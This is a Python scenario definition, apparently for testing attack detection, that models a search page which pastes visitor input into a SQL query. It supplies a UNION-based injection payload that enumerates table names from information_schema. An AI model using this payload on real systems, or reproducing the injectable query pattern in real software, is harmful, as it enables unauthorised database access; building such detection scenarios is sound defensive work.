"""F1: an injected UNION lists the names of all tables: the first step of every tool."""

from backwatch.attack.clients.mysql_connector import MySQLConnector
from backwatch.attack.protocols.tables import MySQLOfTables
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import SearchPage


class CatalogueInjected(SearchPage):
    """A page writes what its visitor searches for into the statement."""

    code = "F1"
    attack = "reads the names of all tables through a UNION that a search field let in"
    reference = "https://attack.mitre.org/techniques/T1213/006/"
    rule = "query-attack"
    server = MySQLOfTables
    shows = "accounts"
    search = "SELECT id, customer, total FROM orders WHERE customer = '{}' ORDER BY id"
    typed = "nobody' UNION SELECT 1, table_schema, table_name FROM information_schema.tables -- "
    runs = (Run(MySQLConnector),)
